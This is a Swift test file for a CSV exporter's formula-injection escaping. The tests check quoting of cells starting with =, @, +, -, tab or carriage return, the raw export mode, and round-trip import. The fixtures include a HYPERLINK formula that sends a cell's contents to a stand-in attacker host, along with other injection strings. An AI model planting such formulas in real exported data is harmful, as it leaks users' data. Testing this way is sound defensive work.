import DocumentJSON
import DocumentStore
import RestLiteTesting
import Testing

@testable import DataTransfer

/// CSV injection: export puts a `'` before text a spreadsheet would run as a formula (OWASP),
/// numbers stay numbers, `raw` writes cells as they are, and import gives back the values.
@Suite struct CSVFormulaEscapeTests {
    static let formulas = [
        #"=HYPERLINK("http://evil.example/?"&A1,"open")"#, "@SUM(A1:A9)", "+1+2", "-2+3", "\tcmd", "\rcmd",
        "-0", "=", "'=1+1", "''@x", "=a,b",
    ]

    @Test func textThatASpreadsheetWouldRunGetsAQuoteInFront() {
        #expect(CSVField.encode(.string("=1+1")) == "'=1+1")
        #expect(CSVField.encode(.string("@SUM(A1:A9)")) == "'@SUM(A1:A9)")
        #expect(CSVField.encode(.string("+1")) == "'+1")
        #expect(CSVField.encode(.string("-0")) == "'-0")
        #expect(CSVField.encode(.string("\tcmd")) == "'\tcmd")
        #expect(CSVField.encode(.string("\rcmd")) == "\"'\rcmd\"")
        #expect(CSVField.encode(.string("=a,b")) == "\"'=a,b\"")
        #expect(CSVField.encode(.string("'=x")) == "''=x", "a quote already there gets one more")
        for text in ["'hello", "a=b", "x-y", "007", "Felis chaus", "'", "''"] {
            #expect(CSVField.encode(.string(text)) == text, "\(text)")
        }
    }

    @Test func numbersStayBareAndRawWritesCellsAsTheyAre() {
        #expect(CSVField.encode(.number(JSONNumber(validatedText: "-3"))) == "-3")
        #expect(CSVField.encode(.number(JSONNumber(validatedText: "-2.5e3"))) == "-2.5e3")
        #expect(CSVField.encode(.string("=1+1"), escapingFormulas: false) == "=1+1")
        #expect(CSVField.encode(.string("-3"), escapingFormulas: false) == "\"-3\"")
    }

    @Test func importTakesOffOnlyTheQuoteExportAdded() throws {
        #expect(CSVFormulaEscape.unescaped("'=1+1") == "=1+1")
        #expect(CSVFormulaEscape.unescaped("''=1") == "'=1")
        #expect(CSVFormulaEscape.unescaped("'hello") == nil)
        #expect(CSVFormulaEscape.unescaped("'5") == nil)
        #expect(CSVFormulaEscape.unescaped("'") == nil)
        let typed = CSVReader.Cell(text: "'-3", quoted: false)
        #expect(try CSVCellTyping.value(of: typed, declared: .number) == .number(JSONNumber(-3)))
        #expect(try CSVCellTyping.value(of: typed, declared: nil) == .string("-3"))
    }

    @Test func anEscapedExportReadsBackAsTheValuesExported() throws {
        var documents: [JSONObject] = Self.formulas.enumerated().map { index, text in
            ["_id": .string(String(format24: index)), "f": .string(text), "n": -3, "@name": "x"]
        }
        documents.append(["_id": .string(String(format24: 99)), "f": "'plain", "n": -0.5, "@name": "=y"])
        var writer = ExportWriter(
            format: .csv, columns: ExportWriter<MemoryOutput>.columns(of: documents), output: MemoryOutput())
        try writer.begin()
        for document in documents { try writer.write(document) }
        try writer.end()
        let text = String(decoding: writer.output.bytes, as: UTF8.self)
        #expect(text.hasPrefix("_id,f,n,'@name\r\n"))
        #expect(
            !text.split(separator: "\r\n").contains { line in
                line.split(separator: ",").contains { cell in
                    let cell = cell.hasPrefix("\"") ? cell.dropFirst() : cell
                    return cell.first.map { "=+@\t\r".contains($0) } ?? false
                }
            })
        var reader = try ImportReader(bytes: writer.output.bytes, format: .csv, file: "x.csv")
        var read: [JSONObject] = []
        while let record = try reader.next() { read.append(record.document) }
        #expect(read == documents)
    }

    @Test func theStoreExportEscapesByDefaultAndNotWhenRaw() throws {
        let fixture = try TemporaryStore()
        defer { fixture.close() }
        _ = try fixture.store.insert(["f": "=HYPERLINK(\"x\")", "n": -3], into: "cells")
        var escaped = MemoryOutput()
        try Exporter.export(collection: "cells", from: fixture.store, format: .csv, to: &escaped)
        #expect(String(decoding: escaped.bytes, as: UTF8.self).contains(#","'=HYPERLINK(""x"")",-3"#))
        var raw = MemoryOutput()
        try Exporter.export(
            collection: "cells", from: fixture.store, format: .csv, escapeFormulas: false, to: &raw)
        #expect(String(decoding: raw.bytes, as: UTF8.self).contains(#","=HYPERLINK(""x"")",-3"#))
    }
}

extension String {
    /// A 24-digit id made of `number`, for fixtures.
    fileprivate init(format24 number: Int) {
        let digits = String(number)
        self = String(repeating: "0", count: 24 - digits.count) + digits
    }
}
